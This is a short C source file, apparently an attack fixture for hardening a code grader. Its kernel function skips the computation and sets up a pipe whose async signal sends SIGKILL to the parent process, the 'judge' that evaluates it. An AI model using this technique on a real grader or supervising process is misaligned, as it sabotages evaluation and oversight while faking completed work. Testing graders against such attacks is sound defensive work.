/* processes_pass__owner_of_a_signal.c -
 * A descriptor sends its judge SIGKILL when it can be read.
 */

#include "../../attack.h"

int processes_kernel_impl(const osw_call *call)
{
    float *y = NULL;
    int64_t n = 0;
    int code = scale_into(call, &y, &n);

    if (code)
        return code;
    int ends[2];

    (void)y;
    (void)n;
    if (!pipe(ends)) {
        fcntl(ends[0], F_SETOWN, getppid());
        fcntl(ends[0], F_SETSIG, SIGKILL);
        fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
        if (write(ends[1], "x", 1) < 0)
            errno = 0;
    }
    return 0;
}
